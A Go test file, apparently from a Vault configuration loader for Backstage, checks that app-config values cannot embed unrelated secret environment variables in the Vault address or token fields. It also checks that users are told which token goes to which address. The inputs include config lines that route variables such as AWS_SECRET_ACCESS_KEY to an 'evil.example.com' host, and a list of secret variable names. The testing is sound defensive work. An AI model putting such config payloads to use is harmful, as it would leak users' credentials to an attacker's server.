package config

import (
	"errors"
	"maps"
	"strings"
	"testing"
)

// The attack is an app-config file that makes an address, a path or a token of a variable of the
// user's that is none of Vault's business, and so gets it sent to a server of its own. Those that
// say where Vault is, and what things there are called, are taken.
func TestVariablesThatAreGivenAway(t *testing.T) {
	t.Parallel()
	values := map[string]string{"VAULT_ADDR": "http://v", "VAULT_TOKEN": "CANARY"}
	for _, name := range []string{"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "DB_PASSWORD",
		"MYSQL_PWD", "HOME", "USER", "SLACK_WEBHOOK_URL", "SENTRY_DSN", "X", "TOKEN", "VAULT_SECRET_ID",
		"VAULT_UNSEAL_KEY", "ANSIBLE_VAULT_PASSWORD", "PATHS", "SSH_AUTH_SOCK"} {
		values[name] = "CANARY"
	}
	for data, given := range map[string]string{
		"baseUrl: 'http://x/${N}'": "", "baseUrl: 'http://${N}.evil.example.com'": "", "baseUrl: '${N}'": "",
		"baseUrl: {$env: N}": "", "baseUrl: {$env: '${NAME}'}": "", "baseUrl: 'http://x/${N:-y}'": "",
		"publicUrl: 'http://x/${N}'":                             "baseUrl: http://v, ",
		"secretEngine: 'x/${N}'":                                 "baseUrl: http://v, ",
		"auth: {type: kubernetes, role: '${N}'}":                 "baseUrl: http://v, ",
		"auth: {type: kubernetes, role: r, authPath: '${N}'}":    "baseUrl: http://v, ",
		"auth: {type: kubernetes, role: r, authPath: {$env: N}}": "baseUrl: http://v, ",
		"token: '${N}'":                               "baseUrl: http://v, ",
		"token: {$env: N}":                            "baseUrl: http://v, ",
		"auth: {type: static, secret: '${N}'}":        "baseUrl: http://v, ",
		"auth: {type: static, secret: {$env: N}}":     "baseUrl: http://v, ",
		"auth: {type: static, secret: 'x${N}'}":       "baseUrl: http://v, ",
		"token: {type: static, secret: '${N}'}":       "baseUrl: http://v, ",
		"baseUrl: 'http://${VAULT_HOST:-h}/x/${N}'":   "",
		"baseUrl: {$include: 'more.yaml#a'}":          "",
		"auth: {$include: 'more.yaml#b'}":             "baseUrl: http://v, ",
		"secretSuffix: 'x${N}', secretEngine: secret": "baseUrl: http://v, ",
	} {
		for name := range values {
			token := strings.Contains(data, "token:") || strings.Contains(data, "secret:") ||
				strings.Contains(data, "#b")
			switch {
			case name == "VAULT_ADDR", name == "VAULT_TOKEN" && token:
				continue
			}
			u := newUser(t)
			maps.Copy(u.vars, values)
			u.vars["NAME"] = name
			with := func(s string) string {
				s = strings.ReplaceAll(s, "${N}", "${"+name+"}")
				s = strings.ReplaceAll(s, "${N:", "${"+name+":")
				return strings.ReplaceAll(s, "$env: N}", "$env: "+name+"}")
			}
			u.write("app/more.yaml", with("a: 'http://x/${N}'\nb: {type: static, secret: '${N}'}\n"))
			_, err := u.backstage("vault: {" + given + with(data) + "}")
			var invalid *InvalidError
			if !errors.As(err, &invalid) || strings.Contains(err.Error(), "CANARY") ||
				!strings.Contains(err.Error(), "sent to the server") {
				t.Errorf("%s with %s: %v", data, name, err)
			}
		}
	}
	for data, vars := range map[string]map[string]string{
		"baseUrl: '${VAULT_ADDR}'":                                                    {"VAULT_ADDR": "http://v"},
		"baseUrl: '${VAULT_URL}/x'":                                                   {"VAULT_URL": "http://v"},
		"baseUrl: '${BASE_URL}'":                                                      {"BASE_URL": "http://v"},
		"baseUrl: 'http://${MY_VAULT_X}'":                                             {"MY_VAULT_X": "v"},
		"baseUrl: 'https://${HOST}:${VAULT_PORT}'":                                    {"HOST": "v", "VAULT_PORT": "8200"},
		"baseUrl: 'https://v.${ENVIRONMENT}.com'":                                     {"ENVIRONMENT": "prod"},
		"baseUrl: {$env: BAO_ADDR}":                                                   {"BAO_ADDR": "http://v"},
		"baseUrl: http://v, token: '${BAO_TOKEN}'":                                    {"BAO_TOKEN": "root"},
		"baseUrl: http://v, token: {$env: OUR_VAR}":                                   {"OUR_VAR": "hvs.CAESIJ"},
		"baseUrl: http://v, secretEngine: '${VAULT_SECRET_ENGINE}'":                   {"VAULT_SECRET_ENGINE": "kv"},
		"baseUrl: http://v, auth: {type: kubernetes, role: '${VAULT_AUTH_ROLE}'}":     {"VAULT_AUTH_ROLE": "r"},
		"baseUrl: http://v, auth: {type: kubernetes, role: r, authPath: '${K_PATH}'}": {"K_PATH": "k"},
		"baseUrl: http://v, auth: {type: static, secret: '${BACKSTAGE_VAULT_TOKEN}'}": {"BACKSTAGE_VAULT_TOKEN": "x"},
	} {
		u := newUser(t)
		maps.Copy(u.vars, vars)
		if c, err := u.backstage("vault: {" + data + "}"); err != nil || c.Address.V == "" {
			t.Errorf("%s: %v", data, err)
		}
	}
}

// Who names an app-config file is told which token of the user's own goes to the address in it.
func TestTokenThatLeavesIsTold(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		data string
		vars map[string]string
		want string
	}{
		"of the environment": {"baseUrl: http://v", map[string]string{"VAULT_TOKEN": "hvs.env"},
			"the token of env VAULT_TOKEN goes to http://v, which backstage ~/app/app-config.yaml:1 names"},
		"of another variable": {"baseUrl: http://v, token: '${MY_VAULT_TOKEN}'",
			map[string]string{"MY_VAULT_TOKEN": "hvs.x"},
			"the token in MY_VAULT_TOKEN goes to http://v, which backstage ~/app/app-config.yaml:1 names"},
		"of the file": {"baseUrl: http://v, token: hvs.file", nil, ""},
		"a pod's": {"baseUrl: http://v, auth: {type: kubernetes, role: r}", nil,
			"a login by kubernetes, with what is in " + podToken +
				", goes to http://v, which backstage ~/app/app-config.yaml:1 names"},
		"to a variable of the user's": {"baseUrl: '${VAULT_URL}'",
			map[string]string{"VAULT_URL": "http://v", "VAULT_TOKEN": "hvs.env"}, ""},
		"to a part of one": {"baseUrl: 'http://${VAULT_HOST}.evil.example.com'",
			map[string]string{"VAULT_HOST": "v", "VAULT_TOKEN": "hvs.env"},
			"the token of env VAULT_TOKEN goes to http://v.evil.example.com, which " +
				"backstage ~/app/app-config.yaml:1 names"},
		"to the environment's address": {"baseUrl: http://v",
			map[string]string{"VAULT_ADDR": "http://v", "VAULT_TOKEN": "hvs.env"}, ""},
		"none": {"baseUrl: http://v", nil, ""},
	} {
		u := newUser(t)
		maps.Copy(u.vars, tc.vars)
		c, err := u.backstage("vault: {" + tc.data + "}")
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		_, origin, err := c.Token()
		if got := c.Leaves(origin, err); got != tc.want {
			t.Errorf("%s: %q, want %q", name, got, tc.want)
		}
	}
}
